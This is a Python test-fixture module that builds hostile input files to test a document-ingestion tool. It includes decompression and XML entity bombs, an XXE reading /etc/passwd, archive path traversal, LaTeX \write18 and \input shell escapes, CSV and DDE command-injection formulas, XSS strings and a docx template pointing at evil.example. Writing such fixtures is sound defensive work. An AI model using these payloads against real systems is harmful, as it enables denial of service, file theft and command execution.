"""Documents made to harm whoever reads them: bombs, loops, lies, ways out of the folder, and injections.

``write(folder, scale)`` puts all of them beside a good one; with ``scale`` 1 they are as large as an attacker
would make them, with less they are as small as a test can bear.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

__all__ = ["DOCUMENTS", "EVIL", "GOOD", "INJECTION", "LINKS", "NAMES", "write"]

MEGABYTE = 2**20
GOOD = (
    "Pruning Trees while They Grow\n\nAna Ruiz, Li Wei\n\nWe present GrowPrune, a method that prunes "
    "decision trees as they grow. On CIFAR-10 it is 1.5x faster than XGBoost on an NVIDIA V100 GPU.\n"
)
INJECTION = "</script><script>alert(1)</script><img src=x onerror=alert(2)>"
EVIL = "kg_evil.txt"
"""The file that a member of an archive would be, if it could get out."""

_NOISE = random.Random(1).randbytes(5 * MEGABYTE)
_CONTROLS = "\u202eA Title\u0000 with \x1b[31mcontrols\u2028\n\nAna Ruiz\n\nWe present \ufeffa method."


def _zip(members: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return file.getvalue()


def _tar(name: str, data: bytes, link: str = "") -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w:gz") as archive:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        if link:
            info.type, info.linkname = tarfile.SYMTYPE, link
        archive.addfile(info, io.BytesIO(data))
    return file.getvalue()


def _nested_zip(scale: float) -> bytes:
    data = _zip({"zeros.txt": bytes(int(20 * MEGABYTE * scale))})
    for level in range(2):
        data = _zip({f"{level}-{copy}.zip": data for copy in range(10)})
    return data


def _lying_zip(scale: float) -> bytes:
    """A member that says it is 10 bytes long, and one that says it is shorter than it is packed."""
    size = int(50 * MEGABYTE * scale)
    data = bytearray(_zip({"short.txt": b"a" * size, "good.txt": GOOD.replace("Trees", "Shrubs").encode()}))
    entry = data.find(b"PK\x01\x02")
    for place in (22, entry + 24):
        data[place : place + 4] = struct.pack("<I", 10)
    return bytes(data)


def _injected_record(_: float) -> bytes:
    record = {
        "title": f"Injected {INJECTION} Title \\input{{/etc/passwd}} \\write18{{id}}",
        "authors": [
            '=HYPERLINK("http://evil.example","x")',
            "Eve <b>Bold</b>",
            "@SUM(1+1)*cmd|' /C calc'!A0",
        ],
        "abstract": f"We present @SUM(1+1)*cmd|' /C calc'!A0, a method. {INJECTION} {{{{7*7}}}} ${{jndi:x}}",
        "url": "javascript:alert(3)",
        "venue": "+cmd|' /C calc'!A0",
    }
    return json.dumps(record).encode()


def _injected_page(_: float) -> bytes:
    title = "Injected &lt;/script&gt;&lt;script&gt;alert(4)&lt;/script&gt;"
    meta = f"<meta name=citation_title content='{title}'><meta name=citation_author content='Eve'>"
    return f"<html><head>{meta}</head><body>{INJECTION}</body></html>".encode()


def _entity_bomb(_: float) -> bytes:
    entities = '<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">\n' for n in range(1, 12)
    )
    return f"<!DOCTYPE x [{entities}]><feed><entry><title>&l11;</title></entry></feed>".encode()


def _quadratic(scale: float) -> bytes:
    entry = "<entry><title>&a;&a;&a;&a;</title></entry>"
    entity = f'<!ENTITY a "{"a" * 100_000}">'
    return f"<!DOCTYPE x [{entity}]><feed>{entry * int(5000 * scale)}</feed>".encode()


def _external(_: float) -> bytes:
    inside = "<MedlineCitation><Article><ArticleTitle>&e; leaked</ArticleTitle></Article></MedlineCitation>"
    articles = f"<PubmedArticleSet><PubmedArticle>{inside}</PubmedArticle></PubmedArticleSet>"
    return f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>{articles}'.encode()


def _attributes(scale: float) -> bytes:
    attributes = "".join(f' a{number}="{number}"' for number in range(int(1_000_000 * scale)))
    return (
        f"<records><record{attributes}><title>A Title</title><author>Eve</author></record></records>".encode()
    )


def _pdf(*objects: str, page: bytes = b"") -> bytes:
    """A PDF of these objects from number 2 on; ``page`` is a packed stream with the next number."""
    numbered = "".join(f"{number} 0 obj{inner}endobj\n" for number, inner in enumerate(objects, 2))
    start = f"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n{numbered}".encode()
    if page:
        head = f"{len(objects) + 2} 0 obj<</Length {len(page)}/Filter/FlateDecode>>stream\n"
        start += head.encode() + page + b"\nendstream endobj\n"
    return start + b"trailer<</Root 1 0 R>>\n"


_PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>"


def _looping_pdf(_: float) -> bytes:
    return _pdf("<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>")


def _many_pages(scale: float) -> bytes:
    kids = "3 0 R " * int(200_000 * scale)
    return _pdf(f"<</Type/Pages/Kids[{kids}]/Count 999999999>>", _PAGE, page=zlib.compress(b"BT ET"))


def _huge_stream(scale: float) -> bytes:
    packer = zlib.compressobj()
    piece = b"BT /F0 9 Tf (A word) Tj ET\n" * 1000
    pieces = [packer.compress(piece) for _ in range(int(300 * MEGABYTE * scale) // len(piece))]
    stream = b"".join((*pieces, packer.flush()))
    return _pdf("<</Type/Pages/Kids[3 0 R]/Count 1>>", _PAGE, page=stream)


def _looping_tex(scale: float) -> bytes:
    macros = "\\def\\a{\\b\\b}\\def\\b{\\a\\a}\\title{\\a}"
    repeated = "\\a " * int(10_000 * scale)
    body = f"\\begin{{abstract}}{repeated}\\end{{abstract}}"
    return f"\\documentclass{{article}}{macros}\\begin{{document}}{body}\\end{{document}}".encode()


def _reaching_tex(_: float) -> bytes:
    title = (
        "\\title{Reaching Out \\input{/etc/passwd}\\write18{touch /tmp/kg_evil.txt}}\\author{Eve Moneypenny}"
    )
    abstract = "\\begin{abstract}We present \\input|{id} \\include{/etc/passwd} a method.\\end{abstract}"
    return f"\\documentclass{{article}}\\begin{{document}}{title}{abstract}\\end{{document}}".encode()


def _growing_macro(scale: float) -> bytes:
    macros = f'@string{{a = "x"}}{"@string{a = a # a}" * int(1000 * scale)}'
    return f"{macros}@article{{k, title = a, author = {{A B}}}}".encode()


def _many_braces(scale: float) -> bytes:
    braces = b"{" * int(1_000_000 * scale)
    return b"@article{x, title = {A} " + braces + b", author = {Eve}\n}\n@article{y, title = {" + braces


def _unended_ris(scale: float) -> bytes:
    return b"TY  - JOUR\nTI  - An Unended Record\n" + b"AU  - Ruiz, Ana\n" * int(50 * MEGABYTE * scale / 16)


def _nested_mail(scale: float) -> bytes:
    parts = "".join(
        f'Content-Type: multipart/mixed; boundary="b{number}"\n\n--b{number}\n'
        for number in range(int(10_000 * scale))
    )
    return (
        f"From eve@x.org Mon Apr  5 02:15:16 2021\nFrom: eve@x.org\nTo: a@b.cl\nSubject: x\n{parts}".encode()
    )


def _reaching_docx(_: float) -> bytes:
    relation = '<Relationship Id="r1" Type="t/attachedTemplate" TargetMode="External" Target="{}"/>'
    targets = ("file:///etc/passwd", "http://evil.example/x.dotm", "\\\\evil.example\\share")
    body = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in GOOD.split("\n\n"))
    field = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
    document = (
        f'<w:document xmlns:w="urn:w"><w:body>{body.replace("Trees", "Macros")}{field}</w:body></w:document>'
    )
    return _zip(
        {
            "[Content_Types].xml": b'<Types><Override ContentType="application/vnd.ms-word.vba"/></Types>',
            "word/document.xml": document.encode(),
            "word/_rels/document.xml.rels": "".join(map(relation.format, targets)).join(
                ("<Relationships>", "</Relationships>")
            ).encode(),
            "word/vbaProject.bin": _NOISE[:10_000],
        }
    )  # fmt: skip


def _reaching_epub(_: float) -> bytes:
    out = "../../../../../../../../etc/passwd"
    item = f'<item id="a" href="{out}" media-type="application/xhtml+xml"/>'
    package = f'<package><manifest>{item}</manifest><spine><itemref idref="a"/></spine></package>'
    container = '<container><rootfiles><rootfile full-path="{}"/></rootfiles></container>'
    return _zip(
        {
            "mimetype": b"application/epub+zip",
            "META-INF/container.xml": container.format("a.opf").encode(),
            "a.opf": package.encode(),
            f"../../../tmp/{EVIL}": b"evil",
        }
    )


def _many(member: bytes, scale: float, count: int) -> bytes:
    return member * int(count * scale)


DOCUMENTS: dict[str, Callable[[float], bytes]] = {
    "attributes.xml": _attributes,
    "bomb.docx": lambda s: _zip(
        {"[Content_Types].xml": b"<x/>", "word/document.xml": bytes(int(300 * MEGABYTE * s))}
    ),
    "bomb.tar.gz": lambda s: _tar("zeros.txt", bytes(int(300 * MEGABYTE * s))),
    "bomb.txt.gz": lambda s: gzip.compress(bytes(int(600 * MEGABYTE * s))),
    "bomb.zip": lambda s: _zip({"zeros.txt": bytes(int(200 * MEGABYTE * s))}),
    "braces.bib": _many_braces,
    "controls.txt": lambda _: _CONTROLS.encode(),
    "damaged.pdf": lambda _: b"%PDF-1.7\n1 0 obj\n<< /Length 99999999 >>\nstream\n" + _NOISE[:40_000],
    "deep.html": lambda s: b"<html><body>" + _many(b"<div>", s, 50_000) + b"A" + _many(b"</div>", s, 50_000),
    "deep.json": lambda s: b'{"title":' + _many(b"[", s, 50_000) + _many(b"]", s, 50_000) + b"}",
    "deep.xml": lambda s: b"<feed>" + _many(b"<a>", s, 20_000) + _many(b"</a>", s, 20_000) + b"</feed>",
    "deep_objects.json": lambda s: _many(b'{"a":', s, 50_000) + b"1" + _many(b"}", s, 50_000),
    "digits.json": lambda s: b'{"title": "Numbers", "year": ' + _many(b"9", s, 200_000) + b"}",
    "empty.txt": lambda _: b"",
    "entities.html": lambda s: b"<html><body><p>" + _many(b"&amp;&lt;&#1114111;", s, 333_333),
    "entity_bomb.xml": _entity_bomb,
    "external.xml": _external,
    "growing.bib": _growing_macro,
    "injection.html": _injected_page,
    "injection.jsonl": _injected_record,
    "link.tar.gz": lambda _: _tar("passwd.txt", b"", link="/etc/passwd"),
    "loop.pdf": _looping_pdf,
    "loop.tex": _looping_tex,
    "lying.zip": _lying_zip,
    "macros.docx": _reaching_docx,
    "many.zip": lambda s: _zip({f"{number}.txt": b"" for number in range(int(30_000 * s))}),
    "many_pages.pdf": _many_pages,
    "names.txt": lambda s: b"A Title\n\n" + _many(b"Jan van der Berg, ", s, 100_000),
    "nested.mbox": _nested_mail,
    "nested.zip": _nested_zip,
    "noise.bin": lambda s: _NOISE[: int(len(_NOISE) * s)],
    "one_line.html": lambda s: b"<html><p>" + _many(b"word ", s, 5 * MEGABYTE),
    "one_line.json": lambda s: b'{"title": "' + _many(b"x", s, 300 * MEGABYTE) + b'"}',
    "one_line.txt": lambda s: _many(b"word ", s, 60 * MEGABYTE),
    "one_record.jsonl": lambda s: b'{"title": "A", "abstract": "' + _many(b"a b ", s, 50 * MEGABYTE) + b'"}',
    "quadratic.xml": _quadratic,
    "quotes.csv": lambda s: b'Title,Authors,Abstract\n"' + _many(b'a,""b\n', s, 300_000),
    "reaching.epub": _reaching_epub,
    "reaching.tex": _reaching_tex,
    "stream.pdf": _huge_stream,
    "tables.html": lambda s: b"<html><body>" + _many(b"<table><tr><td>", s, 100_000) + b"A",
    "traversal.zip": lambda _: _zip({f"../../../tmp/{EVIL}": b"evil", "ok.txt": b"bread and milk"}),
    "unclosed.bib": lambda s: b"@article{a, title = {Open " + _many(b"@article{b, title = {", s, 50_000),
    "unended.ris": _unended_ris,
    "utf16_cut.txt": lambda _: GOOD.replace("Trees", "Bushes").encode("utf-16")[:-1],
}  # fmt: skip

LINKS = {
    "folder": ".",
    "itself": "itself",
    "nowhere.txt": "does-not-exist",
    "passwd.txt": "/etc/passwd",
    "memory.txt": "/proc/self/mem",
    "zeros.txt": "/dev/zero",
    "pipe.txt": "a-pipe",
}
"""Links and what they lead to."""

NAMES = (b"two\nlines.txt", b"\x1b[31mred\x07.txt", b"no utf-8 \xff.txt", b"-o.txt", b"l" * 251 + b".txt")
"""Names of files that hold a paper each."""


def write(folder: Path, scale: float = 1.0) -> int:
    """Writes the good document, the nasty ones, links, a pipe, an unreadable file, and names that are none;
    gives how many are nasty."""
    (folder / "good.txt").write_text(GOOD)
    for name, content in DOCUMENTS.items():
        (folder / name).write_bytes(content(scale))
    os.mkfifo(folder / "a-pipe")
    for name, target in LINKS.items():
        (folder / name).symlink_to(target)
    for number, named in enumerate(NAMES):
        with open(os.fsencode(folder) + b"/" + named, "wb") as file:  # noqa: PTH123 - names that are no text
            file.write(GOOD.replace("Trees", f"Hedges of Kind {number + 1}").encode())
    (folder / "locked.txt").write_text("locked")
    (folder / "locked.txt").chmod(0)
    return len(DOCUMENTS) + len(LINKS) + len(NAMES) + 2
